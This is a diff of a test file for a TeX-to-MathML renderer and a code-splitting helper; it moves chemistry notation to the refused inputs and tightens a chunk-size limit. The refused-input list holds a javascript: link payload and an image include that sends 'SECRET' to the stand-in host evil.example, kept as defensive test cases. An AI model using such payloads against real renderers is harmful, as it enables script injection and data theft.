@@ -16,14 +16,14 @@ describe('typesetting', () => {
   it('makes MathML', () => {
     expect(mathml('\\frac{a}{b}')).toBe('<math><mfrac><mi>a</mi><mi>b</mi></mfrac></math>')
     expect(mathml('x', true)).toContain('display="block"')
+    expect(mathml('x \\tag{7}', true)).toContain('7')
   })
 
-  it('knows matrices, sums, cases, text, chemistry and colours', () => {
+  it('knows matrices, sums, cases, text and colours', () => {
     for (const tex of [
       '\\begin{bmatrix}1&2\\\\3&4\\end{bmatrix}',
       '\\sum_{i=0}^n i^2 = \\int_0^1 \\sqrt[3]{x}\\,dx',
       'f(x)=\\begin{cases}1 & x>0\\\\0 & \\text{otherwise}\\end{cases}',
-      '\\ce{H2O}',
       '\\color{red}{x} \\cancel{y} \\boxed{z} \\hat{a} \\vec{v} \\overline{AB}',
     ])
       expect(mathml(tex)).toMatch(/^<math/)
@@ -31,6 +31,7 @@ describe('typesetting', () => {
 
   const refused: Readonly<Record<string, string>> = {
     'no TeX': '\\frac{a',
+    'chemistry, which stays as it was written': '\\ce{H2O}',
     'a link': '\\href{javascript:alert(1)}{x}',
     'a picture': '\\includegraphics{https://evil.example/?q=SECRET}',
     'data attributes': '\\htmlData{x=1}{y}',
@@ -62,7 +63,7 @@ describe('code', () => {
     const code = 'function a() {\n  return 1\n}\n\n'.repeat(3000)
     const pieces = codePieces(code)
     expect(pieces.join('')).toBe(code)
-    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(18_000)
+    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(8000)
     expect(codePieces('x'.repeat(100_000)).join('')).toHaveLength(100_000)
   })
 
